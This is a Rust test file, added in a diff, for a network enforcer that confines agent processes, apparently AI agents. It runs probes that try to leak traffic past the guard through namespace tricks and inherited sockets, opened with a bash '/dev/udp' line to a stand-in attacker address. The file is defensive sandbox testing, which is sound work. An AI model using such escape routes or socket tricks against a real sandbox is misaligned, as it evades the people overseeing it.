@@ -1,0 +1,257 @@
+//! Every way out, in steps: 1 with the guard off it leaks, 2 as an agent it does not, 3 nor does it
+//! for a minute after all our processes were killed.
+//!
+//! The packet counter outside is the judge; a probe's own opinion counts besides.
+#![allow(clippy::unwrap_used, clippy::print_stdout, reason = "tests")]
+
+use std::process::Command;
+use std::time::Duration;
+
+use enforcer_tests::probes::{Judge, Needs, Off, PROBES, Probe};
+use enforcer_tests::world::{self, Output, Running, UNGUARDED_UID, World, command, plan};
+
+const ATTEMPT: Duration = Duration::from_secs(30);
+/// A probe that sends is seen at once; one that joins a group reports within a second.
+const LEAK: Duration = Duration::from_millis(500);
+
+const POLICY: &str = "\
+version: 1
+agent: prisoner
+allow:
+  - name: api
+    host: api.example.test
+    methods: [GET]
+    paths: [\"/v1/**\"]
+";
+
+#[test]
+fn with_the_guard_off_every_way_leaks() {
+    let world = World::new().unwrap();
+    let victim = world.victim(UNGUARDED_UID).unwrap();
+    pin_something(&world);
+    let mut wrong = Vec::new();
+    for probe in PROBES {
+        let mark = world.sniffer.mark();
+        let mut line = probe_line(&world, probe, victim);
+        let other = other_agent(&world, probe);
+        let command = match probe.off {
+            Off::LeaksAsRoot => world.on_host(&with_fds(probe, &mut line)),
+            Off::Leaks | Off::Structural(_) => world.unguarded(&with_fds(probe, &mut line)),
+        };
+        let output = command::run(command, ATTEMPT).unwrap();
+        end(other);
+        let leaked = match probe.judge {
+            Judge::Packet(wanted) => world.sniffer.saw(mark, LEAK, wanted),
+            Judge::Exit => output.ok(),
+        };
+        println!("{:<18} {}", probe.name, output.stdout.trim());
+        match probe.off {
+            Off::Structural(_) if leaked => {
+                wrong.push(format!("{}: leaks, the table says it cannot", probe.name))
+            }
+            Off::Leaks | Off::LeaksAsRoot if !leaked => {
+                let seen: Vec<_> = world.sniffer.since(mark).iter().map(ToString::to_string).collect();
+                wrong.push(format!(
+                    "{}: does not leak without a guard, so it proves nothing: {output}\nseen: {seen:?}",
+                    probe.name
+                ));
+            }
+            _ => {}
+        }
+    }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n\n"));
+}
+
+#[test]
+fn as_an_agent_nothing_gets_out() {
+    let world = World::new().unwrap();
+    let daemon =
+        world.daemon(&[("prisoner", POLICY), ("other", &POLICY.replace("prisoner", "other"))]).unwrap();
+    let uid: u32 = daemon.run_agent("prisoner", &["id", "-u"]).unwrap().stdout.trim().parse().unwrap();
+    assert_ne!(uid, 0, "an agent is never root of the host");
+    let victim = world.victim(uid).unwrap();
+    pin_something(&world);
+    let mut wrong = Vec::new();
+    for probe in PROBES {
+        let other = (probe.needs == Needs::OtherAgent).then(|| {
+            let served = daemon
+                .spawn_agent("other", &[world.bin("probe").as_os_str(), "serve".as_ref(), "3000".as_ref()]);
+            std::thread::sleep(Duration::from_secs(1));
+            served.unwrap()
+        });
+        let mark = world.sniffer.mark();
+        let line = probe_line(&world, probe, victim);
+        let output = run_as_agent(&daemon, probe, &line);
+        end(other);
+        let packets = world.sniffer.since(mark);
+        println!("{:<18} {}", probe.name, output.stdout.trim());
+        if !packets.is_empty() {
+            let seen: Vec<_> = packets.iter().map(ToString::to_string).collect();
+            wrong.push(format!("{}: {} packets left: {seen:?}\n{output}", probe.name, packets.len()));
+        }
+        // 1 and 3 are the probe's own failure; anything else and it did not run, which proves nothing.
+        if !matches!(output.code, Some(1 | 3)) {
+            wrong.push(format!("{}: {output}", probe.name));
+        }
+    }
+    assert!(wrong.is_empty(), "{}\n--- daemon\n{}", wrong.join("\n\n"), daemon.log_text());
+}
+
+#[test]
+fn for_a_minute_after_kill_9_nothing_gets_out() {
+    let world = World::new().unwrap();
+    let mut daemon = world.daemon(&[("prisoner", POLICY)]).unwrap();
+    // Packets only, and nothing that would change the prober itself.
+    let names: Vec<&str> = PROBES
+        .iter()
+        .filter(|p| p.needs == Needs::Nothing && matches!(p.judge, Judge::Packet(_)))
+        .filter(|p| !matches!(p.name, "setns-host" | "unshare-netns"))
+        .map(|p| p.name)
+        .collect();
+    let probe = world.bin("probe").display().to_string();
+    let mut line = vec![probe, "loop".to_owned(), "62".to_owned(), names.join(",")];
+    line.extend(words(&world, 0));
+    let agent = daemon.spawn_agent("prisoner", &line).unwrap();
+    let slice = format!("/{}", daemon.settings.managed_root);
+    wait_until("the agent runs", || agents_in(&world, &slice) > 0);
+
+    let mark = world.sniffer.mark();
+    let killed = daemon.kill9().unwrap();
+    assert!(killed.len() >= 2, "keeper and worker: {killed:?}");
+    for second in 0..60 {
+        std::thread::sleep(Duration::from_secs(1));
+        if second == 0 {
+            assert!(agents_in(&world, &slice) > 0, "the agent outlives the daemon, shut in");
+        }
+        if second == 30 {
+            // Now the rest of us as well: the client and whatever stands above the agent.
+            daemon.kill9_everything().unwrap();
+        }
+        let packets = world.sniffer.since(mark);
+        let seen: Vec<_> = packets.iter().map(ToString::to_string).collect();
+        assert!(packets.is_empty(), "{} packets left in second {second}: {seen:?}", packets.len());
+    }
+    drop(agent);
+}
+
+#[test]
+fn the_table_the_programme_and_the_ledger_name_the_same_ways() {
+    let probe = std::path::Path::new(env!("CARGO_BIN_EXE_probe"));
+    let known =
+        command::run(command::command(&[probe.as_os_str(), "list".as_ref()]), ATTEMPT).unwrap().stdout;
+    let table: Vec<&str> = PROBES.iter().map(|p| p.name).collect();
+    assert_eq!(known.lines().collect::<Vec<_>>(), table);
+    let ledger = include_str!("../../enforcer/docs/bypasses.md");
+    let missing: Vec<_> = table.iter().filter(|name| !ledger.contains(&format!("`{name}`"))).collect();
+    assert!(missing.is_empty(), "bypasses.md says nothing about {missing:?}");
+}
+
+/// `probe NAME KEY=VALUE…`
+fn probe_line(world: &World, probe: &Probe, victim: u32) -> Vec<String> {
+    let mut line = vec![world.bin("probe").display().to_string(), probe.name.to_owned()];
+    line.extend(words(world, victim));
+    line
+}
+
+fn words(world: &World, victim: u32) -> Vec<String> {
+    vec![
+        format!("v4={}", plan::ATTACKER_V4),
+        format!("v6={}", plan::ATTACKER_V6),
+        format!("host={}", plan::HOST_V4),
+        format!("name={}", plan::API),
+        format!("netns={}", world.host_netns.display()),
+        format!("cgroup={}", cgroup_root().display()),
+        format!("pins={}", pins(&world.dir.join("bpf")).join(",")),
+        format!("deputies={}", world.deputies().display()),
+        format!("victim={victim}"),
+    ]
+}
+
+fn cgroup_root() -> std::path::PathBuf {
+    world::cgroup_root().unwrap()
+}
+
+/// The shell opens the sockets that a careless caller would leave open.
+fn with_fds(probe: &Probe, line: &mut Vec<String>) -> Vec<String> {
+    let number = match probe.needs {
+        Needs::InheritedFd => 7,
+        Needs::InheritedStdin => 0,
+        Needs::Nothing | Needs::Victim | Needs::OtherAgent => return std::mem::take(line),
+    };
+    let open = format!("exec {number}<>/dev/udp/{}/4444; exec \"$@\"", plan::ATTACKER_V4);
+    let mut words = vec!["bash".to_owned(), "-c".to_owned(), open, "open".to_owned()];
+    words.append(line);
+    words
+}
+
+fn run_as_agent(daemon: &world::Daemon<'_>, probe: &Probe, line: &[String]) -> Output {
+    let inner = daemon.agent_command("prisoner", line);
+    let mut typed: Vec<String> = inner.get_args().map(|w| w.to_string_lossy().into_owned()).collect();
+    // `nsenter --net=… -- TOOL …`: the shell goes between, so that the tool inherits what it opens.
+    let tool = typed.iter().position(|w| w == "--").unwrap() + 1;
+    let mut rest = typed.split_off(tool);
+    let mut command = Command::new(inner.get_program());
+    command.args(&typed).args(with_fds(probe, &mut rest)).current_dir("/tmp");
+    command.env_clear().envs(inner.get_envs().filter_map(|(key, value)| Some((key, value?))));
+    command::run(command, ATTEMPT).unwrap()
+}
+
+/// With the guard off, another agent is another process of the host.
+fn other_agent(world: &World, probe: &Probe) -> Option<Running> {
+    (probe.needs == Needs::OtherAgent).then(|| {
+        let line = [world.bin("probe").display().to_string(), "serve".to_owned(), "3000".to_owned()];
+        let served = Running::spawn(world.unguarded(&line), None).unwrap();
+        std::thread::sleep(Duration::from_millis(300));
+        served
+    })
+}
+
+fn end(running: Option<Running>) {
+    if let Some(mut running) = running {
+        running.child.kill().unwrap();
+        running.finish(Duration::from_secs(5)).unwrap();
+    }
+}
+
+/// A pin of root's, so that there is one to open even where no daemon runs.
+fn pin_something(world: &World) {
+    let pin = world.dir.join("bpf/decoy");
+    let probe = world.bin("probe").display().to_string();
+    let output =
+        command::run(command::command(&[probe, "pin".to_owned(), pin.display().to_string()]), ATTEMPT)
+            .unwrap();
+    assert!(output.ok(), "{output}");
+}
+
+/// Every pin below a directory.
+fn pins(dir: &std::path::Path) -> Vec<String> {
+    let mut found = Vec::new();
+    for entry in std::fs::read_dir(dir).unwrap().flatten() {
+        if entry.file_type().unwrap().is_dir() {
+            found.extend(pins(&entry.path()));
+        } else {
+            found.push(entry.path().display().to_string());
+        }
+    }
+    found
+}
+
+fn agents_in(world: &World, slice: &str) -> usize {
+    let bin = world.bin("probe");
+    let in_slice = |pid: i32| {
+        std::fs::read_to_string(format!("/proc/{pid}/cgroup")).is_ok_and(|text| text.contains(slice))
+    };
+    let runs_probe = |pid: i32| std::fs::read_link(format!("/proc/{pid}/exe")).is_ok_and(|exe| exe == bin);
+    let all = world::processes(&world.name).into_iter();
+    all.filter(|(pid, _)| runs_probe(*pid) && in_slice(*pid)).count()
+}
+
+fn wait_until(what: &str, done: impl Fn() -> bool) {
+    for _ in 0..500 {
+        if done() {
+            return;
+        }
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    panic!("waited 10 s until {what}");
+}
